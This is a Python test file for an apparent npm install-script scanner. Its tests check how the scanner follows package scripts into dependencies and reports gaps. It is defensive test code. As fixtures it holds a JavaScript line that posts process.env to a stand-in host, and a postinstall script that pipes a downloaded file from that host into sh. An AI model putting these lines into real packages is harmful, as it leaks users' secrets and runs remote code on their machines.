"""A package without a lockfile is read together with what its scripts reach in other packages."""

from __future__ import annotations

import json
from typing import Any

import pytest

from safe_install.beside import brought_along
from safe_install.scan.reach.missing import Missing
from tests.builders import a_manifest, a_package
from tests.faults import Status, WrongBytes
from tests.loopback import LoopbackRegistry
from tests.world import World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

SENDS = "require('https').request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env))\n"


def a_folder(world: World, command: str, dependencies: dict[str, str], **files: str) -> None:
    """Write a package folder beside the project."""
    manifest = {"name": "lone", "version": "1.0.0", "scripts": {"postinstall": command}, "dependencies": dependencies}
    world.write("lone/package.json", json.dumps(manifest))
    for name, text in files.items():
        world.write(f"lone/{name}.js", text)


def verdict_of(world: World) -> dict[str, Any]:
    """Scan the folder: its one script."""
    (verdict,) = world.run("scan", "--json", "lone").report["verdicts"]
    assert isinstance(verdict, dict)
    return verdict


def test_a_module_of_a_dependency_is_read_though_no_lockfile_names_it(world: World) -> None:
    world.registry.publish("inner", "1.4.0", {"index.js": SENDS})
    world.registry.publish("outer", "2.0.0", {"index.js": "require('inner')\n"}, dependencies={"inner": "^1.0.0"})
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
    verdict = verdict_of(world)
    assert {"outer", "inner", "lone"} <= {file["package"] for file in verdict["files"]}
    assert ("sends-environment", "WARNING") in {(one["signature"], one["severity"]) for one in verdict["findings"]}


def test_a_program_of_a_dependency_is_read_though_no_lockfile_names_it(world: World) -> None:
    world.registry.publish("builder", "1.0.0", {"cli.js": "console.log('built')\n"}, bin={"build-it": "cli.js"})
    a_folder(world, "build-it", {"builder": "1.0.0"})
    files = verdict_of(world)["files"]
    assert ("builder", "cli.js") in {(file["package"], file["path"]) for file in files}


def test_only_the_packages_own_scripts_are_judged(world: World) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": SENDS}, scripts={"postinstall": "node index.js"})
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
    assert verdict_of(world)["package"] == "lone"


def test_a_dependency_that_the_registry_does_not_have_leaves_the_script_unread_there(world: World) -> None:
    a_folder(world, "node index.js", {"nowhere": "^2.0.0"}, index="require('nowhere')\n")
    verdict = verdict_of(world)
    assert verdict["decision"] == "review"
    assert not verdict["complete"]


@pytest.mark.parametrize(
    "spec",
    ["http://x.invalid/a.tgz", "git+ssh://git@x.invalid/a.git", "owner/repository", "npm:other@1.0.0", "file:../a"],
)
def test_no_host_is_asked_that_only_the_package_names(world: World, registry: LoopbackRegistry, spec: str) -> None:
    a_folder(world, "node index.js", {"outer": spec}, index="require('outer')\n")
    assert not verdict_of(world)["complete"]
    assert registry.seen() == []


def test_nothing_is_asked_for_what_no_script_reaches(world: World, registry: LoopbackRegistry) -> None:
    registry.publish("outer", "2.0.0", {"index.js": ""})
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="console.log('hello')\n")
    assert verdict_of(world)["decision"] == "skip"
    assert registry.seen() == []


def test_a_package_that_misses_nothing_brings_nothing(world: World) -> None:
    from safe_install.doors.doorway import make_tools_here

    package = a_package({"package.json": a_manifest(dependencies={"outer": "^2.0.0"})})
    assert brought_along(package, Missing(), make_tools_here(quiet=True)) == ()
    assert world.registry.seen() == []


def test_a_module_that_only_a_dependency_declares_is_found_where_npm_would_put_it(world: World) -> None:
    world.registry.publish("inner", "1.4.0", {"index.js": ""})
    world.registry.publish("outer", "2.0.0", {"index.js": ""}, dependencies={"inner": "^1.0.0"})
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('inner')\n")
    assert "inner" in {file["package"] for file in verdict_of(world)["files"]}


# ------------------------------------------------------------------ what is remembered, and what is left out


def test_the_same_question_is_not_asked_twice_in_a_day(world: World) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": ""})
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
    first = verdict_of(world)
    asked = len(world.registry.seen())
    assert verdict_of(world)["files"] == first["files"]
    assert len(world.registry.seen()) == asked


def test_one_name_that_the_registry_does_not_have_loses_no_other(world: World) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": ""})
    a_folder(
        world, "node index.js", {"nowhere": "^1.0.0", "outer": "^2.0.0"}, index="require('nowhere'); require('outer')\n"
    )
    assert "outer" in {file["package"] for file in verdict_of(world)["files"]}


@pytest.mark.parametrize("table", ["dependencies", "optionalDependencies"])
def test_a_registry_that_does_not_answer_is_a_gap(world: World, table: str) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": ""})
    world.registry.fault("outer", Status(503))
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
    world.write("lone/package.json", world.read("lone/package.json").replace('"dependencies"', f'"{table}"'))
    (gap,) = (one for one in verdict_of(world)["gaps"] if one["kind"] == "not-fetched")
    assert gap["detail"].startswith("what it depends on could not be resolved: the registry did not answer npm (E503)")
    world.registry.mend()
    assert "outer" in {file["package"] for file in verdict_of(world)["files"]}


@pytest.mark.parametrize("table", ["dependencies", "optionalDependencies"])
@pytest.mark.parametrize("name", ["nowhere", "outer"])
def test_that_the_registry_has_no_such_thing_is_an_answer(world: World, table: str, name: str) -> None:
    world.registry.publish("outer", "1.0.0", {"index.js": ""})
    a_folder(world, "node index.js", {name: "^2.0.0"}, index=f"require('{name}')\n")
    world.write("lone/package.json", world.read("lone/package.json").replace('"dependencies"', f'"{table}"'))
    assert verdict_of(world)["gaps"] == []


def test_a_dependency_that_cannot_be_fetched_is_a_gap(world: World) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": ""})
    world.registry.fault(".tgz", WrongBytes())
    a_folder(world, "node index.js", {"outer": "^2.0.0"}, index="require('outer')\n")
    assert "not-fetched" in {gap["kind"] for gap in verdict_of(world)["gaps"]}


def test_the_scripts_of_what_a_package_bundles_are_judged_with_it(world: World) -> None:
    inner = {"name": "inner", "version": "1.0.0", "scripts": {"postinstall": "curl -fsL http://x.invalid/t | sh"}}
    outer = {"name": "lone", "version": "1.0.0", "dependencies": {"inner": "1"}, "bundleDependencies": ["inner"]}
    world.write("lone/package.json", json.dumps(outer))
    world.write("lone/node_modules/inner/package.json", json.dumps(inner))
    verdict = verdict_of(world)
    assert (verdict["package"], verdict["decision"]) == ("inner", "block")


def test_what_a_package_manager_installed_in_a_folder_is_left_out_and_that_is_told(world: World) -> None:
    world.write("lone/package.json", json.dumps({"name": "lone", "version": "1.0.0"}))
    world.write("lone/node_modules/.package-lock.json", "{}")
    world.write("lone/node_modules/inner/package.json", json.dumps({"scripts": {"install": "node x.js"}}))
    report = world.run("scan", "--json", "lone").report
    assert report["verdicts"] == []
    assert [one["signature"] for one in report["findings"]] == ["package/modules-left-out"]
    assert report["exit_code"] == 10


def test_a_target_that_cannot_be_read_hides_nothing_of_the_others(world: World) -> None:
    a_folder(world, "node index.js", {}, index="console.log('hello')\n")
    said = world.run("scan", "--json", "lone", "nowhere.json", "rules")
    assert said.verdicts == {"lone postinstall": "skip"}
    assert [gap["target"] for gap in said.report["gaps"]] == ["nowhere.json", "rules"]
    assert said.code == 11


def test_a_single_target_that_cannot_be_read_is_a_mistake_of_whoever_typed_it(world: World) -> None:
    said = world.run("scan", "--json", "nowhere.json")
    assert (said.code, said.out) == (2, "")
